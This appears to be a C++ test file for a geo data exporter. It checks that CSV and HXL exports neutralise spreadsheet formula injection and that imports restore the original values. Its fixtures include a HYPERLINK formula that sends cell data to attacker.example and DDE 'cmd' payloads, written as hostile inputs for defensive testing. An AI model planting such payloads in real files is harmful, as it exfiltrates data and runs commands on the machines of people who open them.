// CSV files are opened in spreadsheets: a text cell a spreadsheet would run as a formula is written
// with a leading apostrophe, numbers are left alone, and an import takes the apostrophe away again
// (geo/src/spreadsheet_text.hpp).
#include "spreadsheet_text.hpp"

#include "enlace/geo/exporter.hpp"
#include "enlace/geo/importer.hpp"

#include "support/temp_registry.hpp"

#include "enlace/core/registry.hpp"

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <ogrsf_frmts.h>

#include <map>
#include <string>
#include <vector>

namespace core = enlace::core;
namespace geo = enlace::geo;
using enlace::geo::detail::spreadsheet_safe;
using enlace::geo::detail::without_spreadsheet_guard;
using enlace::test::make_registry;
using enlace::test::ScratchDir;

namespace {

const std::string hostile_name = "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Open\")";
const std::string hostile_description = "@SUM(1+1)*cmd|' /C calc'!A0";
const std::string phone = "+502 2411 1111";
const std::string street = "-2+3+cmd|' /C calc'!A0";

std::string dataset() {
    nlohmann::json service = {
        {"source_id", "hostile"},
        {"name", {{"es", hostile_name}}},
        {"description", {{"es", hostile_description}}},
        {"types", {"VIO.HOTLINE"}},
        {"country", "GT"},
        {"location", {{"lat", 14.6349}, {"lon", -90.5069}, {"precision", "exact"}}},
        {"address", {{"street", street}, {"locality", "'Zona 1'"}}},
        {"contacts", {{{"kind", "phone"}, {"value", phone}}}},
        {"status", "active"},
        {"visibility", "public"},
    };
    return nlohmann::json{{"source", "sheet-test"}, {"services", {service}}}.dump();
}

/// Every cell of the CSV file's one data row by column name, read as text (no type detection).
std::map<std::string, std::string> csv_row(const std::string& path, int skip_rows = 0) {
    GDALAllRegister();
    GDALDatasetUniquePtr ds(GDALDataset::Open(path.c_str(), GDAL_OF_VECTOR | GDAL_OF_READONLY, nullptr, nullptr));
    REQUIRE(ds);
    auto* layer = ds->GetLayer(0);
    std::map<std::string, std::string> cells;
    for (int i = 0; i <= skip_rows; ++i) {
        OGRFeatureUniquePtr feature(layer->GetNextFeature());
        REQUIRE(feature);
        if (i < skip_rows) continue; // HXL's hashtag row
        for (int f = 0; f < feature->GetFieldCount(); ++f)
            cells[feature->GetFieldDefnRef(f)->GetNameRef()] = feature->GetFieldAsString(f);
    }
    return cells;
}

} // namespace

TEST_CASE("A text cell a spreadsheet would run as a formula is guarded, and the guard comes off again",
          "[export][csv][security]") {
    CHECK(spreadsheet_safe("=1+1") == "'=1+1");
    CHECK(spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)");
    CHECK(spreadsheet_safe("+502 2411 1111") == "'+502 2411 1111");
    CHECK(spreadsheet_safe("-2+3") == "'-2+3");
    CHECK(spreadsheet_safe("\t=1") == "'\t=1");
    CHECK(spreadsheet_safe("\r=1") == "'\r=1");
    CHECK(spreadsheet_safe("'quoted'") == "''quoted'");
    CHECK(spreadsheet_safe("-inf") == "'-inf");
    // Numbers are read as numbers, and plain text as text.
    CHECK(spreadsheet_safe("-90.5069") == "-90.5069");
    CHECK(spreadsheet_safe("+3") == "+3");
    CHECK(spreadsheet_safe("-1e5") == "-1e5");
    CHECK(spreadsheet_safe("Casa del Migrante") == "Casa del Migrante");
    CHECK(spreadsheet_safe("a=b") == "a=b");
    CHECK(spreadsheet_safe("") == "");

    // Only a guard spreadsheet_safe could have added comes off.
    CHECK(without_spreadsheet_guard("'Zona 1'") == "'Zona 1'");
    CHECK(without_spreadsheet_guard("'-90.5") == "'-90.5");
    CHECK(without_spreadsheet_guard("'") == "'");
    CHECK(without_spreadsheet_guard("''") == "'");
    for (const std::string text :
         {"=1+1", "@x", "+502 2411 1111", "-2+3", "'", "''", "'=1", "\t", "-90.5", "plain", "'Zona 1'", "", "-", "+"}) {
        CAPTURE(text);
        CHECK(without_spreadsheet_guard(spreadsheet_safe(text)) == text);
    }
}

TEST_CASE("CSV and HXL exports guard formula cells, keep coordinates numbers, and import back unchanged",
          "[export][csv][security][roundtrip]") {
    const auto format = GENERATE(geo::ExportFormat::csv, geo::ExportFormat::hxl);
    const bool hxl = format == geo::ExportFormat::hxl;
    ScratchDir dir;
    auto original = make_registry(dir, "original.db");
    original.load_dataset(dataset());

    geo::ExportOptions options;
    options.format = format;
    const auto path = dir.file(hxl ? "services.hxl.csv" : "services.csv");
    REQUIRE(geo::export_records(original, path, options).records == 1);

    const auto cells = csv_row(path, hxl ? 1 : 0);
    CHECK(cells.at("name_es") == "'" + hostile_name);
    CHECK(cells.at("phone") == "'" + phone);
    CHECK(cells.at("street") == "'" + street);
    CHECK(cells.at("locality") == "''Zona 1'");
    CHECK(cells.at("lon") == "-90.5069");
    CHECK(cells.at("lat") == "14.6349");
    CHECK(cells.at("description_es") == "'" + hostile_description);
    for (const auto& [column, text] : cells) {
        CAPTURE(column, text);
        const bool number = column == "lon" || column == "lat";
        CHECK((number || text.empty() || std::string("=+-@\t\r").find(text.front()) == std::string::npos));
    }

    // The file imports back as it was stored.
    auto copy = make_registry(dir, "copy.db");
    geo::ImportOptions import;
    import.path = path;
    import.source = "copy";
    const auto report = geo::import_layer(copy, import);
    INFO(geo::report_table(report));
    REQUIRE(report.created == 1);
    core::ServiceQuery all;
    all.audience = core::Audience::authorised;
    const auto found = copy.find(all);
    REQUIRE(found.items.size() == 1);
    const auto& got = found.items.front().service.fields();
    CHECK(got.name.at("es") == hostile_name);
    CHECK(got.address.street == street);
    CHECK(got.address.locality == "'Zona 1'");
    REQUIRE(got.contacts.size() == 1);
    CHECK(got.contacts.front().value == phone);
    CHECK(got.description.at("es") == hostile_description);
}
